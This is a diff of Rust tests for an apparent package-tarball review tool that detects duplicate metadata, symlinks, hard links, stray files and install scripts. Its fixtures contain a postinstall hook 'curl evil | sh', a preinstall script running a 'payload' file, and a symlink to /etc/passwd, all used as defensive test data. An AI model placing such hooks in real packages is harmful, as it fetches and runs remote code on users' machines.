@@ -1030,12 +1030,15 @@ fn broken_inputs_are_clear_errors() {
 #[test]
 fn duplicate_package_json_metadata_comes_from_the_installed_copy() {
     let mut t = Tar::new();
-    t.file("package/package.json", br#"{"name":"demo","version":"1.0.0"}"#)
-        .file("package/index.js", b"1")
-        .file(
-            "package/package.json",
-            br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#,
-        );
+    t.file(
+        "package/package.json",
+        br#"{"name":"demo","version":"1.0.0"}"#,
+    )
+    .file("package/index.js", b"1")
+    .file(
+        "package/package.json",
+        br#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#,
+    );
     let (_dir, a) = fixture("dup-meta.tgz", &gzip(&t.finish()));
     let meta = a.package.as_ref().expect("metadata");
     assert_eq!(
@@ -1065,10 +1068,16 @@ fn npm_skips_links_so_they_are_not_installed_and_shadow_nothing() {
         "a skipped link does not shadow the file before it"
     );
     assert_one(&a, AnomalyKind::Symlink, sym, "symlink to /etc/passwd");
-    assert_one(&a, AnomalyKind::Hardlink, hard, "hard link to package/index.js");
+    assert_one(
+        &a,
+        AnomalyKind::Hardlink,
+        hard,
+        "hard link to package/index.js",
+    );
     let dup = anomalies(&a, AnomalyKind::DuplicatePath);
     assert!(
-        dup.iter().all(|(_, d)| !d.contains("this later entry is the one installed")),
+        dup.iter()
+            .all(|(_, d)| !d.contains("this later entry is the one installed")),
         "no message claims the skipped link is installed: {dup:?}"
     );
 }
@@ -1076,13 +1085,78 @@ fn npm_skips_links_so_they_are_not_installed_and_shadow_nothing() {
 #[test]
 fn links_in_a_crate_stay_installed() {
     let mut t = Tar::new();
-    t.file("c-0.1.0/Cargo.toml", b"[package]\nname = \"c\"\nversion = \"0.1.0\"\n")
-        .file("c-0.1.0/Cargo.toml.orig", b"")
-        .link("c-0.1.0/src", flag::SYMLINK, "/");
+    t.file(
+        "c-0.1.0/Cargo.toml",
+        b"[package]\nname = \"c\"\nversion = \"0.1.0\"\n",
+    )
+    .file("c-0.1.0/Cargo.toml.orig", b"")
+    .link("c-0.1.0/src", flag::SYMLINK, "/");
     let (_dir, a) = fixture("c-0.1.0.crate", &gzip(&t.finish()));
     assert_eq!(a.format, Format::Crate);
     assert!(
         entry(&a, "src").installed,
         "cargo unpacks symlinks, so the link is reviewed as installed"
     );
+}
+
+#[test]
+fn a_loose_file_before_the_root_does_not_hide_the_package() {
+    // npm strips the first component of every name: `README` becomes nothing and is not
+    // written, `package/package.json` becomes `package.json`.
+    let mut t = Tar::new();
+    t.file("README", b"decoy")
+        .file(
+            "package/package.json",
+            br#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"sh x"}}"#,
+        )
+        .file("package/x", b"payload");
+    let (_dir, a) = fixture("loose.tgz", &gzip(&t.finish()));
+    assert_eq!(
+        a.format,
+        Format::NpmTarball,
+        "package.json is found: {:?}",
+        paths(&a)
+    );
+    assert_eq!(a.root.as_deref(), Some("package"));
+    assert_eq!(paths(&a), ["README", "package.json", "x"]);
+    let loose = &a.entries[0];
+    assert!(
+        !loose.installed,
+        "nothing is left of README once the root is stripped"
+    );
+    assert_one(&a, AnomalyKind::OutsideRoot, loose, "README");
+    assert_eq!(
+        a.package
+            .as_ref()
+            .and_then(|m| m.scripts.get("preinstall"))
+            .map(String::as_str),
+        Some("sh x"),
+        "the install script is visible to review"
+    );
+}
+
+#[test]
+fn a_flat_tar_keeps_its_names() {
+    let mut t = Tar::new();
+    t.file("a.txt", b"a").file("b.txt", b"b");
+    let (_dir, a) = fixture("flat.tar", &t.finish());
+    assert_eq!(a.root, None, "no single root folder");
+    assert_eq!(paths(&a), ["a.txt", "b.txt"]);
+    assert!(a.entries.iter().all(|e| e.installed), "{:?}", a.entries);
+    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
+}
+
+#[test]
+fn a_dot_root_is_stripped_as_node_tar_does() {
+    // `tar czf x.tgz -C dir .` stores `./`, `./package.json`, `./lib/a.js`.
+    let mut t = Tar::new();
+    t.dir("./")
+        .file("./package.json", br#"{"name":"dot","version":"1.0.0"}"#)
+        .dir("./lib/")
+        .file("./lib/a.js", b"a");
+    let (_dir, a) = fixture("dot.tgz", &gzip(&t.finish()));
+    assert_eq!(a.root.as_deref(), Some("."));
+    assert_eq!(paths(&a), ["package.json", "lib", "lib/a.js"]);
+    assert_eq!(a.format, Format::NpmTarball);
+    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
 }
